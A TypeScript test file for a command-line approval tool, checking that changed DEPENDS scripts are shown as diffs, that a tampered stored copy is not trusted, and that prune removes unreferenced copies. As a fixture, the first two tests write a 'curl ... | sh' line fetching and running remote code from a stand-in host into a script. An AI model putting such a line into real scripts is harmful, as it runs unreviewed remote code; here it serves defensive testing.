// Re-approval after a DEPENDS file changed shows the change, through the real CLI: the copy
// is kept when the gate is approved, the next run that needs approval shows the diff against
// it, a copy that was tampered with is not shown as the approved version, and prune removes
// copies once no approval refers to them.
import { readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli, sandbox, writeFiles } from '../helpers/cli.js';

const LEDGER = '- [ ] A: the import keeps every row\n  CHECK: sh scripts/check.sh\n  EXPECT: /import verification passed \\(\\d+ rows\\)/\n  DEPENDS: scripts/*.sh\n';

function repo() {
  const s = sandbox();
  writeFiles(s.repo, { 'GATES.md': LEDGER, 'scripts/check.sh': 'rows=3\necho "import verification passed ($rows rows)"\n' });
  const run = (args: string[]) => runCli(args, { cwd: s.repo, env: s.env });
  const copies = join(s.home, '.gate-check', 'copies');
  return { ...s, run, copies };
}

describe('the approval screen shows what changed in a DEPENDS file', () => {
  it('a diff against the approved version; a new DEPENDS file whole; nothing when never approved', () => {
    const s = repo();
    const first = s.run([]);
    expect(first.stdout).toContain('  never approved before');
    expect(first.stdout).not.toContain('DIFF');
    expect(s.run(['--approve']).code).toBe(0);
    expect(readdirSync(s.copies)).toHaveLength(1);
    writeFiles(s.repo, { 'scripts/check.sh': 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n', 'scripts/helper.sh': 'exit 0\n' });
    const r = s.run([]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('  approved before for another oracle: DEPENDS: scripts/check.sh changed, DEPENDS: scripts/helper.sh added');
    expect(r.stdout).toContain(
      [
        '  DIFF    scripts/check.sh (approved version, then now):',
        '  | @@ -1,2 +1,3 @@',
        '  |  rows=3',
        '  | +curl -s https://example.invalid/x | sh',
        '  |  echo "import verification passed ($rows rows)"',
        '  DIFF    scripts/helper.sh (approved version, then now):',
        '  | @@ -0,0 +1,1 @@',
        '  | +exit 0',
      ].join('\n'),
    );
    // Approved again: both copies are kept for the next change.
    expect(s.run(['--approve']).code).toBe(0);
    expect(readdirSync(s.copies)).toHaveLength(3);
  });

  it('a tampered copy is not shown as the approved version; the screen says to read the whole file', () => {
    const s = repo();
    expect(s.run(['--approve']).code).toBe(0);
    const [name] = readdirSync(s.copies);
    // Someone edits the copy so that the diff would hide the new line.
    writeFileSync(join(s.copies, name!), 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n', { mode: 0o600 });
    writeFiles(s.repo, { 'scripts/check.sh': 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n' });
    const r = s.run([]);
    expect(r.stdout).toMatch(/^ {2}DIFF {4}scripts\/check\.sh: no copy of the approved version is kept .*read the whole file$/m);
    expect(r.stdout).not.toContain('  | ');
  });

  it('approvals prune removes the copies of approvals it removes, and keeps those still referred to', () => {
    const s = repo();
    expect(s.run(['--approve']).code).toBe(0);
    expect(readdirSync(s.copies)).toHaveLength(1);
    const dry = s.run(['approvals', 'prune', '--dry-run']);
    expect(dry.stdout).not.toContain('copies');
    rmSync(join(s.repo, 'GATES.md'));
    const dry2 = s.run(['approvals', 'prune', '--dry-run']);
    expect(dry2.stdout).toContain('would remove 1 copy of approved DEPENDS files that no approval refers to');
    expect(readdirSync(s.copies)).toHaveLength(1);
    const real = s.run(['approvals', 'prune']);
    expect(real.code).toBe(0);
    expect(real.stdout).toContain('removed 1 copy of approved DEPENDS files that no approval refers to');
    expect(readdirSync(s.copies)).toHaveLength(0);
  });
});
